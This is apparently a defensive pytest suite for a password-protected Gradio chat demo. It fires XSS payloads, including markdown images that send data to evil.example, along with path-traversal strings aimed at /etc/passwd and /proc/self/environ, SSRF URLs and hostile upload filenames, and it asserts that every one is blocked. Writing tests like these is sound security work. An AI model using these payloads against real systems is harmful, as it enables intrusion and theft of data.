"""Attacks on the really running page, as a raw client makes them, and answers that attack the browser."""

from __future__ import annotations

import base64
import http.client
import itertools
import json
import re
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import gradio as gr
import httpx
import pytest
from playwright.sync_api import Browser
from starlette.routing import Route

from mminstruct.demo.app import reserve, running
from mminstruct.demo.page import Page
from mminstruct.serving.doors import Doors
from mminstruct.serving.lock import Secrets
from mminstruct.serving.models import Models
from tests.demo.conftest import Tab
from tests.serving.scripted import ScriptedEngine

PASSWORD, KEY = "correct horse", "a-key-of-the-api-for-tests"
LOGIN = {"Authorization": "Basic " + base64.b64encode(f"x:{PASSWORD}".encode()).decode()}
MAX_FILE = 50_000

# What an answer, or a question, may hold against whoever reads it.
ANSWER = """
<script>window.attacked = 1</script> <img src=x onerror="window.attacked = 2"> <svg onload="window.attacked = 3"></svg>
<iframe src="http://evil.example/frame"></iframe> <form action="http://evil.example/form"><input name=q></form>
<style>@import url(http://evil.example/style.css);</style> <link rel=stylesheet href="http://evil.example/l.css">
<base href="http://evil.example/"> <meta http-equiv=refresh content="0;url=http://evil.example/meta">
<video src="http://evil.example/v.mp4" autoplay></video> <object data="http://evil.example/o"></object>

![told](http://evil.example/one.png?secret) ![told][far] ![told]( http://evil.example/two.png 'x')
!\\[told](http://evil.example/three.png) &#33;[told](http://evil.example/four.png)
!<b></b>[told](http://evil.example/five.png)

[far]: http://evil.example/six.png

[press](javascript:window.attacked=4) [press](JaVaScRiPt:window.attacked=5) [press](java\tscript:window.attacked=6)
[press](data:text/html,<script>window.attacked=7</script>) [press](vbscript:msgbox) <javascript:window.attacked=8>
[press](&#106;avascript:window.attacked=9) <a href="javascript:window.attacked=10">press</a>

> <details open ontoggle="window.attacked = 11"><summary>x</summary></details>

`code <img src=x onerror="window.attacked = 12">`

    <img src="http://evil.example/seven.png" onerror="window.attacked = 13">

```html
<img src="http://evil.example/eight.png">
```

```mermaid
graph TD; A["<img src=x onerror=window.attacked=14>"]
```

$$\\href{javascript:window.attacked=15}{x} \\includegraphics{http://evil.example/nine.png}$$

\x1b[2J\x00\x07 \u202etxt.exe\u202c the end
"""


@pytest.fixture(scope="module")
def page() -> Iterator[Page]:
    entrance = Doors.of("127.0.0.1", keys=Secrets.of(KEY), passwords=Secrets.of(PASSWORD))
    models = Models({"scripted": ScriptedEngine(ANSWER)})
    with running(models, reserve(port=0), max_file_size=MAX_FILE, entrance=entrance) as page:
        yield page


@pytest.fixture(scope="module")
def client(page: Page) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=page.url, headers=LOGIN, timeout=30) as client:
        yield client


@pytest.fixture(scope="module")
def uploads(client: httpx.Client) -> Path:
    """Where uploads of the page go: the folder above the hash that each gets."""
    answer = client.post("/gradio_api/upload", files={"files": ("a.txt", b"an upload")})
    return Path(answer.json()[0]).parents[1]


def raw(page: Page, path: str, method: str = "GET") -> tuple[int, bytes]:
    """Ask for a path as it is written, without what clients do to make it proper."""
    connection = http.client.HTTPConnection("127.0.0.1", int(page.url.rsplit(":", 1)[1]), timeout=20)
    connection.putrequest(method, path)
    for name, value in LOGIN.items():
        connection.putheader(name, value)
    connection.endheaders()
    answer = connection.getresponse()
    return answer.status, answer.read()


# ---- the password is asked for everywhere ----------------------------------------------------------------------------


def routes() -> list[tuple[str, str]]:
    """Every route that Gradio has, filled in, with its methods."""
    with gr.Blocks() as blocks:
        gr.Markdown("x")
    app = gr.routes.App.create_app(blocks)
    found = [(route.path, method) for route in app.routes if isinstance(route, Route) for method in route.methods or ()]
    found += [(path, method.upper()) for path, methods in app.openapi()["paths"].items() for method in methods]
    return sorted({(re.sub(r"\{[^}]*\}", "x", path) or "/", method) for path, method in found})


def test_no_route_of_the_page_is_open_without_the_password(page: Page) -> None:
    asked = [
        *routes(),
        ("/gradio_api/file=/etc/passwd", "GET"),
        ("/gradio_api/upload", "POST"),
        ("/gradio_api/queue/join", "POST"),
        ("/gradio_api/heartbeat/x", "GET"),
        ("/gradio_api/stream/x/x/x/playlist.m3u8", "GET"),
        ("/config", "GET"),
        ("/assets/x.js", "GET"),
        ("/nowhere", "GET"),
    ]
    assert len(asked) > 50
    with httpx.Client(base_url=page.url, timeout=20) as stranger:
        for path, method in asked:
            assert stranger.request(method, path).status_code == 401, (method, path)
        assert stranger.get("/v1/models").json()["error"]["code"] == "invalid_api_key"
        assert stranger.get("/metrics").status_code == 401
        assert stranger.get("/health").status_code == 200
        assert stranger.get("/v1/models", headers={"Authorization": f"Bearer {KEY}"}).status_code == 200


def test_who_has_the_password_can_chat(chrome: Browser, page: Page) -> None:
    tab = Tab(chrome, page.url, http_credentials={"username": "anyone", "password": PASSWORD})
    tab.ask("hello")
    tab.until(lambda: "the end" in tab.last_answer)
    assert [line for line in tab.complaints if "401" in line] == []
    tab.context.close()


# ---- files of the computer -------------------------------------------------------------------------------------------

PATHS = [
    "/gradio_api/file=/etc/passwd",
    "/gradio_api/file=%2Fetc%2Fpasswd",
    "/gradio_api/file=%252Fetc%252Fpasswd",
    "/gradio_api/file=//etc/passwd",
    "/gradio_api/file=../../../../../../../../etc/passwd",
    "/gradio_api/file=..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc/passwd",
    "/gradio_api/file=%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/gradio_api/file=..\\..\\..\\..\\etc\\passwd",
    "/gradio_api/file={uploads}/../../../../../../../../etc/passwd",
    "/gradio_api/file={uploads}/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/gradio_api/file={uploads}/%252e%252e/%252e%252e/%252e%252e/etc/passwd",
    "/gradio_api/file={uploads}/link.png",
    "/gradio_api/file={uploads}/folder/passwd",
    "/gradio_api/file={uploads}%00/etc/passwd",
    "/gradio_api/file={uploads}",
    "/gradio_api/file={uploads}/",
    "/gradio_api/file=file:///etc/passwd",
    "/gradio_api/file=/proc/self/environ",
    "/gradio_api/file=/dev/stdin",
    "/gradio_api/file=~/.bashrc",
    "/gradio_api/file=" + str(Path(__file__)),
    "/gradio_api/file/etc/passwd",
    "/gradio_api/file/../../../../etc/passwd",
    "/file=/etc/passwd",
    "/static/../../../../../../../../etc/passwd",
    "/static/..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/assets/../../../../../../../../etc/passwd",
    "/assets/..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/svelte/..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/gradio_api/custom_component/x/client/component/..%2f..%2f..%2fetc%2fpasswd",
    "/gradio_api/stream/x/x/..%2f..%2fetc/playlist-file",
    "/../../../../etc/passwd",
    "//etc/passwd",
]


@pytest.mark.parametrize("path", PATHS)
def test_no_path_leads_to_files_of_the_computer(page: Page, uploads: Path, path: str) -> None:
    for name, target in (("link.png", "/etc/passwd"), ("folder", "/etc")):
        if not (uploads / name).is_symlink():
            (uploads / name).symlink_to(target)
    for method in ("GET", "HEAD"):
        status, body = raw(page, path.format(uploads=uploads), method)
        assert 400 <= status < 500, status
        assert b"root:" not in body and b"def test_" not in body and b"PATH=" not in body


@pytest.mark.parametrize("route", ["file=", "proxy="])
@pytest.mark.parametrize(
    "url",
    ["http://127.0.0.1:{port}/health", "http://169.254.169.254/latest", "https://evil.example/x", "//evil.example/x"],
)
def test_the_page_fetches_nothing_for_a_stranger_and_leads_nowhere(page: Page, route: str, url: str) -> None:
    status, body = raw(page, f"/gradio_api/{route}{url.format(port=page.url.rsplit(':', 1)[1])}")
    assert 400 <= status < 500
    assert b'"status"' not in body


# ---- uploads ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["../../evil.png", "/etc/evil.png", "..\\..\\evil.png", "a/../../evil.png", "%2e%2e%2fevil.png", "..", ".",
     "~/e.png", "e" * 1000 + ".png", "evil.png\x00.txt", "evil.png\r\nX: y", "\u202egnp.exe", "CON", " "],
)  # fmt: skip
def test_the_name_of_an_upload_leads_nowhere(client: httpx.Client, uploads: Path, name: str) -> None:
    around = [uploads.parent, uploads.parent.parent, Path.cwd(), Path("/etc"), Path.home()]
    before = [sorted(path.name for path in folder.iterdir() if "evil" in path.name) for folder in around]
    head = f'--x\r\nContent-Disposition: form-data; name="files"; filename="{name}"\r\n\r\n'.encode()
    answer = client.post(
        "/gradio_api/upload",
        content=head + b"data\r\n--x--\r\n",
        headers={"Content-Type": "multipart/form-data; boundary=x"},
    )
    if answer.status_code == 200:
        for path in answer.json():
            assert Path(path).resolve().is_relative_to(uploads) and Path(path).resolve().parent.parent == uploads
    else:
        assert 400 <= answer.status_code < 500
    assert before == [sorted(path.name for path in folder.iterdir() if "evil" in path.name) for folder in around]


def sizes(folder: Path) -> int:
    return sum(path.stat().st_size for path in folder.rglob("*") if path.is_file() and not path.is_symlink())


def test_an_upload_above_the_limit_is_refused_and_leaves_nothing(client: httpx.Client, uploads: Path) -> None:
    before = sizes(uploads.parent)
    assert client.post("/gradio_api/upload", files={"files": ("a.png", b"x" * (MAX_FILE + 1))}).status_code == 413
    many = [("files", (f"{number}.png", b"x" * MAX_FILE)) for number in range(20)]
    assert client.post("/gradio_api/upload", files=many).status_code == 413
    assert sizes(uploads.parent) - before <= MAX_FILE


def test_a_message_above_the_limit_is_refused(client: httpx.Client) -> None:
    chunks = (b'{"data": "' + b"x" * 2**20 for _ in range(6))
    assert client.post("/gradio_api/queue/join", content=chunks).status_code == 413


# ---- made-up calls ---------------------------------------------------------------------------------------------------


def forged(path: str) -> list[Any]:
    """Ways to name a file that was never uploaded."""
    file = {"path": path, "meta": {"_type": "gradio.FileData"}}
    return [
        {"text": "x", "files": [file]},
        {"text": "x", "files": [{"file": file, "alt_text": None}]},
        file,
        [file],
        path,
        [{"role": "user", "content": [{"type": "file", "file": file}]}],
        {"path": path, "url": f"http://127.0.0.1/{path}", "orig_name": "a.png", "meta": {"_type": "gradio.FileData"}},
    ]


def asked(client: httpx.Client, fn_index: int, data: list[Any], session: str) -> list[dict[str, Any]]:
    """What the queue says of one call."""
    body = {"data": data, "fn_index": fn_index, "session_hash": session}
    client.post("/gradio_api/queue/join", json=body).raise_for_status()
    events = []
    with client.stream("GET", "/gradio_api/queue/data", params={"session_hash": session}) as stream:
        for line in stream.iter_lines():
            if line.startswith("data:"):
                events.append(json.loads(line.removeprefix("data:")))
                if events[-1]["msg"] in ("process_completed", "close_stream", "unexpected_error"):
                    return events
                assert len(events) < 20, events
    return events


def test_a_question_with_a_made_up_file_is_refused_in_the_queue(client: httpx.Client) -> None:
    config = client.get("/config").json()
    kinds = {one["id"]: one["type"] for one in config["components"]}
    values = {one["id"]: one["props"].get("value") for one in config["components"]}
    questions = [one for one in config["dependencies"] if "multimodaltextbox" in [kinds.get(i) for i in one["inputs"]]]
    assert questions
    for number, handler in enumerate(questions):
        data = [forged("/etc/passwd")[0] if kinds[i] == "multimodaltextbox" else values[i] for i in handler["inputs"]]
        events = asked(client, handler["id"], data, f"queue{number}")
        text = json.dumps(events)
        assert "root:" not in text
        assert not events[-1].get("success", False), handler


@pytest.mark.filterwarnings("ignore::UserWarning")  # Gradio's way to log what a visitor is told
def test_no_call_reads_a_file_that_was_not_uploaded(client: httpx.Client, uploads: Path) -> None:
    """Every handler of the page, private ones too, is given made-up files in every place."""
    secret = Path("/etc/passwd").read_bytes()[:40]
    handlers = client.get("/config").json()["dependencies"]
    assert len(handlers) > 5
    paths = itertools.cycle(["/etc/passwd", "../../../../../etc/passwd"])
    told = []
    shapes = itertools.cycle(range(len(forged(""))))
    for handler in [*handlers, *handlers]:
        path = next(paths)
        value = forged(path)[next(shapes)]
        body = {
            "data": [value] * len(handler["inputs"]),
            "fn_index": handler["id"],
            "session_hash": "forged",
            "event_data": {"index": 0, "value": value, "path": path},
        }
        told.append(client.post("/gradio_api/run/x", json=body).text)
    assert [text for text in told if secret.decode() in text] == []
    kept = [file for file in uploads.parent.rglob("*") if file.is_file() and not file.resolve().is_relative_to("/etc")]
    assert [file for file in kept if secret in file.read_bytes()[:10_000]] == []
    assert client.get("/config").status_code == 200


@pytest.mark.parametrize("route", ["queue/join", "run/x", "run/x/", "api/x", "call/x", "call/v2/x"])
def test_no_call_makes_the_page_fetch(client: httpx.Client, monkeypatch: pytest.MonkeyPatch, route: str) -> None:
    """No name is looked up for any handler, however the call names its file."""
    looked_up: list[str] = []
    real = socket.getaddrinfo

    def watched(host: str, *args: Any, **kwargs: Any) -> Any:
        looked_up.append(host)
        return real("127.0.0.1" if host == "public.example" else host, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", watched)
    handlers = client.get("/config").json()["dependencies"]
    address = "http://public.example/secret.png"
    for handler, value in zip(handlers, itertools.cycle(one for one in forged(address) if one != address)):
        data = [value] * len(handler["inputs"])
        body = {"data": data, "fn_index": handler["id"], "session_hash": "far", "event_data": value}
        answer = client.post(f"/gradio_api/{route}", json=body)
        assert (answer.status_code, answer.text) == (403, "A file of the web is not fetched here; upload it.\n")
    deep = '{"data": ' + "[" * 900 + '{"path": "http://public.example"}' + "]" * 900 + "}"
    assert client.post(f"/gradio_api/{route}", content=deep).status_code == 403
    assert "public.example" not in looked_up


# ---- answers that attack the browser ---------------------------------------------------------------------------------


def test_an_answer_cannot_run_leave_or_fetch_in_the_browser(chrome: Browser, page: Page) -> None:
    tab = Tab(chrome, page.url, http_credentials={"username": "x", "password": PASSWORD})
    dialogs: list[str] = []
    tab.view.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    tab.ask(ANSWER)
    tab.until(lambda: "the end" in tab.last_answer and tab.submit_button.is_visible())
    tab.view.wait_for_timeout(500)
    bubbles = "#chat [data-testid=bot], #chat [data-testid=user]"
    for link in tab.view.locator(f":is({bubbles}) a").all():
        href = link.get_attribute("href") or ""
        assert not re.match(r"\s*(javascript|vbscript|data):", href, re.IGNORECASE), href
    inside = ", ".join(
        f":is({bubbles}) {tag}" for tag in ("script", "iframe", "form", "object", "style:not(svg *)", "base", "meta")
    )
    assert [one.evaluate("e => e.outerHTML.slice(0, 300)") for one in tab.view.locator(inside).all()] == []
    assert tab.view.locator(f":is({bubbles}) :is(img, video)[src*='evil']").count() == 0
    assert tab.view.evaluate("window.attacked") is None
    assert dialogs == [] and tab.view.url.rstrip("/") == page.url
    assert [url for url in tab.requests if "evil.example" in url] == []
    shown = tab.last_answer
    assert "<script>window.attacked" in shown, "what was written is shown, as text"
    assert "\x1b" not in shown and "\x07" not in shown
    tab.context.close()
